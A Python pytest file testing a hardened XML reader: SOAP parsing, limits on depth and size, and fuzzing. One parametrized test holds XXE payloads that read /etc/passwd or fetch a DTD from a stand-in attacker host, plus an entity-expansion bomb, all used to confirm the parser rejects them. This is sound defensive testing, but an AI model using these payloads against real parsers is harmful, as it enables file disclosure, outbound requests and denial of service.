"""Markup: XML from outside becomes a tree, or an explanation, and nothing else happens."""

from __future__ import annotations

from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hub.errors import Unreadable
from hub.sdk import markup
from hub.sdk.markup import Element, read_xml

SOAP = b"""<?xml version="1.0" encoding="UTF-8"?>
<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <s:Body><told xmlns="urn:told"><Id> 7 </Id>
 <Row xsi:type="x:Deal" xmlns:x="urn:x"><x:Name>Caf\xc3\xa9 &amp; <![CDATA[<b>]]></x:Name></Row>
 <Row/></told></s:Body></s:Envelope>"""


def test_elements_are_found_by_their_names_alone():
    """Prefixes and namespaces are the sender's own; texts come whole, with the five entities that every XML has."""
    told = read_xml(SOAP).first("Body/told")
    assert told is not None and told.said("Id") == "7" and told.said("Nothing") == ""
    first, second = told.each("Row")
    assert first.attributes == {"type": "x:Deal"} and first.said("Name") == "Café & <b>"
    assert second == Element("Row")
    assert [one.text for one in read_xml(b"<a><b>1</b><c/><b>2</b></a>").each("b")] == ["1", "2"]
    for kind in ("utf-16", "latin-1"):
        assert read_xml(f"<?xml version='1.0' encoding='{kind}'?><a>é</a>".encode(kind)).text == "é"


@pytest.mark.parametrize(
    "document",
    [
        b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
        b'<!DOCTYPE a [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;&l;&l;&l;&l;&l;">]><a>&m;</a>',
        b"<!DOCTYPE a><a/>",
    ],
)
def test_no_document_type_is_read(document):
    """Neither files nor other hosts are looked at, and nothing grows."""
    with pytest.raises(Unreadable, match="document type"):
        read_xml(document)


@pytest.mark.parametrize(
    ("document", "why"),
    [
        (b"", "not XML"),
        (b"{}", "not XML"),
        (b"<a>", "not XML"),
        (b"<a></b>", "not XML"),
        (b"<a>&unknown;</a>", "not XML"),
        (b"<a>&#0;</a>", "not XML"),
        (b"<a>\x00</a>", "not XML"),
        (b"<a>\xff</a>", "not XML"),
        (b'<?xml version="1.0" encoding="nonsense"?><a/>', "not XML"),
        (b'<?xml version="1.0" encoding="shift_jis"?><a/>', "not XML"),
        (b"<a>" * 65 + b"</a>" * 65, "deeper than 64"),
        (b"<a>" * 100_000, "deeper than 64"),
        (b"<a>" + b"<b/>" * 100_000 + b"</a>", "more than 100,000 elements"),
        (b"<a>" + b"x" * markup.BYTES_MOST + b"</a>", "the most"),
    ],
)
def test_what_cannot_be_read_is_explained(document, why):
    """Broken, too deep, too much: each has its sentence."""
    with pytest.raises(Unreadable, match=why):
        read_xml(document)


@given(st.binary(max_size=200))
def test_junk_is_never_a_crash(junk):
    """Whatever comes is read or explained."""
    for document in (junk, b"<a>" + junk + b"</a>"):
        with suppress(Unreadable):
            read_xml(document)
